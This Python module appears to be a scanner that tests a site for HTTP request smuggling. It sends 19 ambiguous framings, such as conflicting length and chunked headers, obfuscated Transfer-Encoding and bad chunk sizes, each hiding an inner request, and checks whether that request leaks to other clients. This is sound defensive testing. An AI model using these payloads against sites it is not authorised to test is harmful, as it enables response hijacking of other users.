"""Requests whose end two servers may see at different places, so that the second finds another request inside."""

from .client import Client
from .loopback import connect

INNER = "GET /robots.txt HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-Proto: https\r\n\r\n"
OTHERS = 4  # requests of somebody else, after each variant
SMUGGLED = b"User-agent"  # what only the inner request is answered with

# Name → the headers of an ambiguous POST, and its body; {size} is the inner request's length.
VARIANTS = {
    "length, then chunked": ("Content-Length: {size}\r\nTransfer-Encoding: chunked", "0\r\n\r\n{inner}"),
    "chunked, then length": ("Transfer-Encoding: chunked\r\nContent-Length: 4", "0\r\n\r\n{inner}"),
    "two lengths": ("Content-Length: 0\r\nContent-Length: {size}", "{inner}"),
    "a list of lengths": ("Content-Length: 0, {size}", "{inner}"),
    "a signed length": ("Content-Length: +0", "{inner}"),
    "a negative length": ("Content-Length: -1", "{inner}"),
    "a length in another script": ("Content-Length: ٠", "{inner}"),
    "chunked with a space": ("Transfer-Encoding : chunked\r\nContent-Length: {size}", "0\r\n\r\n{inner}"),
    "chunked with a tab": ("Transfer-Encoding:\tchunked\r\nContent-Length: {size}", "0\r\n\r\n{inner}"),
    "chunked with a vertical tab": ("Transfer-Encoding: \x0bchunked\r\nContent-Length: {size}", "0\r\n\r\n{inner}"),
    "chunked twice": ("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "0\r\n\r\n{inner}"),
    "unknown coding": ("Transfer-Encoding: xchunked\r\nContent-Length: {size}", "0\r\n\r\n{inner}"),
    "folded header": ("X-A: b\r\n Transfer-Encoding: chunked\r\nContent-Length: {size}", "0\r\n\r\n{inner}"),
    "bare line feed": ("X-A: b\nTransfer-Encoding: chunked\r\nContent-Length: {size}", "0\r\n\r\n{inner}"),
    "bare carriage return": ("X-A: b\rTransfer-Encoding: chunked\r\nContent-Length: {size}", "0\r\n\r\n{inner}"),
    "underscores": ("Content_Length: 0\r\nContent-Length: {size}", "{inner}"),
    "chunk size with a sign": ("Transfer-Encoding: chunked", "-1\r\n\r\n{inner}"),
    "chunk size too large": ("Transfer-Encoding: chunked", "ffffffffffffffff0\r\n{inner}"),
    "chunk extension": ("Transfer-Encoding: chunked", "0;a=\r\n\r\n\r\n{inner}"),
}
# By the rules these bodies end before the inner request, which is then a second one like any other (RFC 9112, 2.2, 6.3
# and 9.3.2), if the first is not refused: the transfer coding counts, and a line may end in a bare line feed.
PIPELINED = {"chunk extension", "chunked with a tab", "length, then chunked", "chunked, then length", "bare line feed"}


def find_smuggled(client: Client) -> list[str]:
    """The variants whose inner request was answered: as a part of a body, or to somebody else on another connection."""
    found = []
    for name in VARIANTS:
        is_answered = SMUGGLED in send(client, name)
        if is_answered and name not in PIPELINED:
            found.append(name)
        found += [f"{name}, to somebody else" for _ in range(OTHERS) if SMUGGLED in client.get("/healthz").body]
    return found


def send(client: Client, name: str) -> bytes:
    """All that the site answers on one connection."""
    host = f"{client.host}:{client.port}"
    inner = INNER.format(host=host)
    headers, body = (part.format(size=len(inner), inner=inner) for part in VARIANTS[name])
    head = f"POST / HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-Proto: https\r\n{headers}\r\n\r\n"
    answers = b""
    try:
        connection = connect(client.host, client.port, 3, uses_tls=client.uses_tls)
        with connection:
            connection.sendall((head + body).encode())
            while more := connection.recv(65536):
                answers += more
    except OSError:
        pass  # the site closes such a connection, or waits for more of the body
    return answers
